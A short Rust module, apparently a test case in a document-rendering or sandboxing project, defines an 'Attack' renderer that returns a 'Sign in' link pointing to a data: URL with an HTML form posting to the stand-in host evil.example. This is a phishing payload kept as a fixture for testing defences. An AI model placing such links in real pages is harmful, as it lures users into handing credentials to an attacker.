//! A link to a document of the guest's own making.

use crate::raw::*;

pub struct Attack;

impl Raw for Attack {
    fn render(_: Context, _: Vec<u8>) -> Result<View, Error> {
        only(Node::Link(Link { label: "Sign in".into(), address: "data:text/html,<form action=//evil.example>".into() }))
    }
}
